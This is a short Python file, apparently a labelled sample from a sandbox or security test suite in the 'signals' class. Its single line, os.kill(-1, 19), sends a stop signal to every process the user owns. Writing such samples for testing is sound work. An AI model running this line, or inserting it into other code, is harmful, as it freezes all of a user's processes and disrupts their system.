"""Stops whatever it may."""

# ruff: noqa
# class: signals
# wins: victim
# proof: none:would stop every process of this user

import os

os.kill(-1, 19)
